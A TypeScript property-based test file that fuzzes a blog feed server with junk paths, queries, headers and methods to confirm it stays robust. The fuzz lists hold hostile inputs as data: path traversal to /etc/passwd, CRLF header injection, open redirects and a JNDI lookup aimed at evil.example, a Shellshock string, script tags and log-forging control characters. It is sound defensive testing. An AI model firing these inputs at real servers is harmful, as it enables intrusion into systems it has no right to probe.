// Junk: no request breaks the app, is redirected to another site, or changes what other clients get.

import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it, type MockInstance, vi } from 'vitest';
import { RENDERERS } from '../../src/feeds/render-feed.ts';
import { FORMATS } from '../../src/routes/formats.ts';
import { anEntry, entriesUntilNoon, feedPath, HOUR, NOON, publish, SITE, serve } from '../a-blog.ts';
import { runs } from '../runs.ts';

const ENTRIES = [
  ...entriesUntilNoon(9, { tags: ['Radio', 'C++'] }),
  anEntry('wellenlängen', { published: NOON - 20 * HOUR, tags: ['a/b', '📻'], lang: 'pt-BR' }),
  anEntry('coming', { published: NOON + HOUR, tags: ['soon'] }),
];
const OPTIONS = { site: { window: 3, page: 2 }, aliases: { n1: ['/old', '/2020/old/'] } };
const { lock } = publish([...ENTRIES, anEntry('removed')], OPTIONS);
const { archive } = publish(ENTRIES, { ...OPTIONS, lock });
const aBlog = () => serve(archive).app;

const LONG = 16_384;

const segment = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      ...'posts tags authors languages archive media feed feeds sitemap old 2020'.split(' '),
      ...'n1 removed coming Radio radio C%2B%2B C%2B%2B+Radio %F0%9F%93%BB pt-br soon'.split(' '),
      ...FORMATS.map(({ file }) => file),
      ...'1 2 99 -1 0 1e3 index.html n1.md n1.html sitemap.xml 1.xml healthz'.split(' '),
    ),
  },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      ...[
        '',
        '.',
        '..',
        '...',
        '%2e%2e',
        '%2E.',
        '..%2f..%2f..%2fetc%2fpasswd',
        '..%5c..%5cboot.ini',
        '~',
        '*',
      ],
      ...'%00 n1%00 % %zz %E0%A4%A %ff%fe %c0%ae%c0%ae %ed%a0%80 %25 %2500 %2F%2F'.split(' '),
      ...'%0d%0aSet-Cookie:%20a=b %0aLocation:%20//evil.example %09 %7f %1b%5b31m %e2%80%ae'.split(' '),
      ...[
        '\\',
        '\\\\evil.example',
        '%5C%5Cevil.example',
        '//evil.example',
        ';a=b',
        '@evil.example',
        ':80',
        '{x}',
        ':id',
      ],
      ...[
        '__proto__',
        'constructor',
        'toString',
        'hasOwnProperty',
        'null',
        'undefined',
        '[object Object]',
        '{{7*7}}',
      ],
      ...[
        '<script>',
        '"onload="',
        "'--",
        '+',
        '++',
        '+%2B+',
        'İ',
        'ß',
        'ﬁ',
        '時刻',
        '\u{1F4FB}',
        '\u0301',
        '\ud800',
      ],
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom('a', '/', '%2e/', '../', '%', '%41', '+', 'A+', 'a/', '//', '.html', '%F0%9F%93%BB', 'é')
      .map((piece) => piece.repeat(LONG / piece.length)),
  },
);
const anyPath = fc
  .tuple(
    fc.array(segment, { minLength: 1, maxLength: 5 }),
    fc.constantFrom('', '', '/', '//', '.html', '.md'),
  )
  .map(([parts, end]) => `/${parts.join('/')}${end}`.replaceAll(/[?#]/g, ''));
/** Addresses that exist, or nearly: so that not every request gets a 404 early. */
const goodPath = fc.constantFrom(
  ...FORMATS.flatMap(({ file }) => [`/${file}`, `/tags/Radio/${file}`, `/Archive/1/${file}`]),
  ...'/ /posts/n1 /posts/N1/ /old /feed /feeds /sitemap.xml /posts/removed /archive/0/rss.xml'.split(' '),
);
const path = fc.oneof({ weight: 4, arbitrary: anyPath }, { weight: 1, arbitrary: goodPath });

const parameter = fc.oneof(
  fc.constantFrom(
    ...'not= not=Radio not=radio not=nothing not=% not=%00 not entries=1 entries=-1'.split(' '),
    ...'entries= entries=99999999999999999999 entries=NaN source source=1 utm_source=x = &'.split(' '),
    ...['__proto__=1', 'a[]=1', '%zz=%zz', 'next=//evil.example', '?', '+', '%0d%0aX: y'],
  ),
  fc.string({ maxLength: 10 }).map((text) => text.replaceAll('#', '')),
);
const query = fc.oneof(
  { weight: 3, arbitrary: fc.constant('') },
  { weight: 3, arbitrary: fc.array(parameter, { maxLength: 4 }).map((given) => `?${given.join('&')}`) },
  {
    weight: 1,
    arbitrary: parameter.map(
      (given) => `?${Array.from({ length: 1000 }, (_, n) => `${given}${n}`).join('&')}`,
    ),
  },
  { weight: 1, arbitrary: parameter.map((given) => `?${`${given}&`.repeat(1000)}`) },
);

/** Values that a header can have. */
const headerText = fc
  .string({ unit: 'binary', maxLength: 40 })
  .map((text) => text.replaceAll(/[^\t\x20-\x7e\x80-\xff]/g, ''));
const oneOrOther = (...values: string[]) =>
  fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...values) }, { weight: 1, arbitrary: headerText });
const headers = fc.record(
  {
    'X-Forwarded-Host': oneOrOther('evil.example', 'evil.example, longwave.example', '"><script>'),
    'X-Forwarded-Proto': oneOrOther('javascript', 'http', 'https,http'),
    'X-Forwarded-Prefix': oneOrOther('/evil', '//evil.example'),
    Forwarded: oneOrOther('for=evil;host=evil.example;proto=http', '";'),
    'X-Original-URL': oneOrOther('/evil', '/posts/coming'),
    'X-HTTP-Method-Override': oneOrOther('DELETE', 'POST'),
    Origin: oneOrOther('https://evil.example', 'null'),
    Referer: oneOrOther('https://evil.example/', 'javascript:x()'),
    Accept: oneOrOther('*/*', 'text/html', 'application/atom+xml', ';;q=,', ',', '*/*;q=NaN', 'a/b;c="'),
    'Accept-Encoding': oneOrOther(
      'gzip',
      'br',
      '*',
      'identity;q=0',
      'gzip;q=9e99',
      ';;,',
      'gzip,'.repeat(500),
    ),
    'Accept-Language': oneOrOther('de', '*', ';q=0'),
    'If-None-Match': oneOrOther('*', '"x"', 'W/"', '""', '"'.repeat(2000), 'W/"a",'.repeat(500), "'; DROP"),
    'If-Modified-Since': oneOrOther(
      '0',
      'Thu, 01 Jan 1970 00:00:00 GMT',
      'Fri, 31 Feb 9999 99:99:99 GMT',
      '-1',
    ),
    'If-Match': oneOrOther('*', '"x"'),
    'If-Range': oneOrOther('"x"'),
    Range: oneOrOther('bytes=0-', 'bytes=-1', 'bytes=5-1', 'lines=1', `bytes=${'0-1,'.repeat(300)}`),
    'Sec-Fetch-Dest': oneOrOther('document', 'empty', 'iframe', 'DOCUMENT', 'document, document'),
    'Content-Type': oneOrOther('application/json', 'multipart/form-data'),
    Cookie: oneOrOther('a=b', '__proto__=1; =;'),
    'User-Agent': oneOrOther('curl/8', '() { :; }; echo', '%{jndi:ldap://evil.example}'),
  },
  { requiredKeys: [] },
);
const method = fc.oneof(
  { weight: 6, arbitrary: fc.constant('GET') },
  { weight: 2, arbitrary: fc.constantFrom('HEAD', 'OPTIONS') },
  {
    weight: 1,
    arbitrary: fc.constantFrom('POST', 'PUT', 'DELETE', 'PATCH', 'PROPFIND', 'BREW', 'GETT', 'head', 'pAtCh'),
  },
);
/** Values that a runtime accepts in the Host header. */
const host = fc.constantFrom(
  ...'evil.example evil.example:8080 longwave.example longwave.example. LONGWAVE.EXAMPLE localhost'.split(
    ' ',
  ),
  ...[
    '127.0.0.1:1',
    '[::1]',
    '[::1]:65535',
    'xn--fnf-hoa.example',
    `${'a'.repeat(63)}.example`,
    'a_b',
    '0x7f.1',
    '-',
  ],
);

interface Ask {
  readonly method: string;
  readonly path: string;
  readonly query: string;
  readonly headers: Readonly<Record<string, string>>;
}
type App = ReturnType<typeof aBlog>;

async function answer(
  app: App,
  origin: string,
  { method: how, path: where, query: what, headers: said }: Ask,
) {
  const response = await app.request(new Request(origin + where + what, { method: how, headers: said }));
  return {
    status: response.status,
    headers: [...response.headers],
    location: response.headers.get('Location'),
    body: Buffer.from(await response.arrayBuffer()).toString('latin1'),
  };
}

const ORDINARY: readonly Ask[] = [
  ...FORMATS.map(feedPath),
  ...'/ /posts/n1 /posts/n1.md /tags/Radio /tags/Radio/rss.xml /archive/1/atom.xml /feed /feeds'.split(' '),
  ...'/feeds.opml /sitemap.xml /robots.txt /favicon.svg /healthz /index.xml /old /posts/n1/'.split(' '),
  ...'/posts/removed /posts/coming /nothing /RSS.xml /tags/soon /rss.xml?not=Radio /rss.xml?source'.split(
    ' ',
  ),
].flatMap((path) =>
  [
    {},
    { 'Accept-Encoding': 'gzip' },
    { 'Sec-Fetch-Dest': 'document' },
    { 'If-None-Match': '*' },
    { Accept: 'application/atom+xml' },
  ].map((headers) => ({ method: 'GET', path, query: '', headers: headers as Record<string, string> })),
);
const answersToOrdinary = (app: App) => Promise.all(ORDINARY.map((ask) => answer(app, SITE.origin, ask)));
/** Each as the first request that an app gets. */
const undisturbed = Promise.all(ORDINARY.map((ask) => answer(aBlog(), SITE.origin, ask)));

describe('junk', { timeout: 120_000 }, () => {
  let log: MockInstance;
  beforeEach(() => {
    log = vi.spyOn(console, 'error').mockImplementation(() => {});
  });
  afterEach(() => {
    expect(log.mock.calls).toEqual([]);
    log.mockRestore();
  });

  const expectSound = ({ status, headers: sent, location }: Awaited<ReturnType<typeof answer>>) => {
    expect([200, 204, 301, 304, 308, 400, 404, 405, 410]).toContain(status);
    for (const [name, value] of sent) expect(value, name).toMatch(/^[\t\x20-\x7e\x80-\xff]*$/);
    if (location !== null) expect(location).toMatch(/^\/(?![/\\])[\x21-\x7e]*$/);
    expect(sent.some(([name]) => name === 'set-cookie')).toBe(false);
  };

  it('of any kind causes no failure and no redirect to another site, and gets the same answer for every host name', async () => {
    const app = aBlog();
    const before = await undisturbed;
    const statuses = new Map<number, number>();
    await fc.assert(
      fc.asyncProperty(fc.record({ method, path, query, headers }), host, async (ask, otherHost) => {
        const ours = await answer(app, SITE.origin, ask);
        expectSound(ours);
        statuses.set(ours.status, (statuses.get(ours.status) ?? 0) + 1);
        const theirs = await answer(app, `http://${otherHost}`, ask);
        expect(theirs).toEqual(ours);
      }),
      runs(500),
    );
    expect(await answersToOrdinary(app)).toEqual(before);
    // If all junk got a 404 early, it would test nothing.
    for (const status of [200, 204, 304, 308, 400, 404, 405])
      expect(statuses.get(status), `${status}`).toBeGreaterThan(3);
  });

  it('of any kind gets the same answer with an empty cache and with a full one', async () => {
    const used = aBlog();
    const sane = fc.record({ method, path: goodPath, query: fc.constantFrom('', '?source'), headers });
    await fc.assert(
      fc.asyncProperty(fc.oneof(sane, fc.record({ method, path, query, headers })), async (ask) => {
        expect(await answer(used, SITE.origin, ask)).toEqual(await answer(aBlog(), SITE.origin, ask));
      }),
      runs(150),
    );
  });

  it('that fills the cache changes no other answer', async () => {
    const app = aBlog();
    const before = await undisturbed;
    for (let number = 0; number < 1500; number += 1)
      await answer(app, SITE.origin, {
        method: 'HEAD',
        path: '/rss.xml',
        query: `?junk=${number}`,
        headers: {},
      });
    expect(await answersToOrdinary(app)).toEqual(before);
  });

  // The time for a combination of many names must not grow with the square of their number.
  it.each([
    [
      'tags that exist',
      '/tags/',
      Array.from({ length: 3000 }, (_, n) => (n % 2 ? 'Radio' : 'C%2B%2B')),
      '/rss.xml',
    ],
    ['tags that do not exist', '/tags/', Array.from({ length: 3000 }, (_, n) => `t${n}`), '/rss.xml'],
    ['tags in another case', '/tags/', Array.from({ length: 3000 }, () => 'rADIO'), '/RSS.xml/'],
    ['names with invalid percent signs', '/tags/', Array.from({ length: 3000 }, () => '%'), ''],
  ])('in an address of thousands of %s is answered', async (_, start, names, end) => {
    const ask = { method: 'GET', path: start + names.join('+') + end, query: '', headers: {} };
    expectSound(await answer(aBlog(), SITE.origin, ask));
  });

  it('in long headers is answered', async () => {
    const app = aBlog();
    for (const name of [
      'Accept',
      'Accept-Encoding',
      'If-None-Match',
      'If-Modified-Since',
      'Sec-Fetch-Dest',
    ]) {
      for (const piece of ['"', ',', ' ', ';', 'q=', 'W/', 'W/"a', '*', 'gzip;q=1,', 'a/b;c="\\']) {
        const ask = {
          method: 'GET',
          path: '/feed',
          query: '',
          headers: { [name]: piece.repeat(50_000 / piece.length) },
        };
        expectSound(await answer(app, SITE.origin, ask));
      }
    }
  });

  it('in a body is not read', async () => {
    const app = aBlog();
    for (const how of ['POST', 'PUT', 'PROPFIND']) {
      const request = new Request(`${SITE.origin}/rss.xml`, { method: how, body: '<x>'.repeat(100_000) });
      const response = await app.request(request);
      expect(response.status).toBe(405);
      expect(request.bodyUsed).toBe(false);
    }
  });
});

describe('junk among media', () => {
  // A store may fail on an impossible name, or list the files of a folder, so it gets no such request.
  it.each([
    ['/media/%', 404],
    ['/media/%E0%A4%A', 404],
    [`/media/${'a'.repeat(5000)}`, 404],
    ['/media/launch/dial.svg%00', 404],
    ['/media/..%2fworker.js', 404],
    ['/media', 404],
    ['/media/', 404],
    ['/media/launch', 404],
    ['/media/launch/', 404],
    ['/media/launch/dial.svg/', 308],
    ['/media//launch/dial.svg', 308],
  ])('%s is not a file', async (address, status) => {
    const ASSETS = { fetch: vi.fn(() => Promise.reject(new Error('the store broke'))) };
    const { app } = serve(publish(ENTRIES, { ...OPTIONS, media: ['launch/dial.svg'] }).archive);
    const response = await app.request(SITE.origin + address, {}, { ASSETS });
    expect(response.status).toBe(status);
    expect(response.headers.get('Location')).toBe(status === 308 ? '/media/launch/dial.svg' : null);
    expect(ASSETS.fetch).not.toHaveBeenCalled();
  });
});

describe('a failure in the log', () => {
  it('is one line for any address', async () => {
    const log = vi.spyOn(console, 'error').mockImplementation(() => {});
    const render = vi.spyOn(RENDERERS, 'rss').mockImplementation(() => {
      throw new Error('the renderer broke');
    });
    const name = 'a\nGET /faked: all is well\r\u001b[2J';
    const { get } = serve(publish([anEntry('x', { tags: [name] })]).archive);
    const response = await get(`/tags/${encodeURIComponent(name)}/rss.xml`);
    const lines = log.mock.calls.map((said) => said.join(' '));
    render.mockRestore();
    log.mockRestore();
    expect(response.status).toBe(500);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^[^\p{Cc}]*$/u);
  });
});

describe('the host that a request names', () => {
  it.each(['evil.example', '127.0.0.1:1', 'a_b', '[::1]'])(
    '%s is in no answer to any client',
    async (name) => {
      const app = aBlog();
      for (const ask of ORDINARY) {
        const headers = {
          ...ask.headers,
          'X-Forwarded-Host': name,
          Forwarded: `host=${name}`,
          'X-Forwarded-Proto': 'gopher',
        };
        const { body, headers: sent } = await answer(app, `http://${name}`, { ...ask, headers });
        expect(`${body}${sent}`).not.toContain(name);
        expect(`${body}${sent}`).not.toContain('gopher:');
      }
    },
  );
});
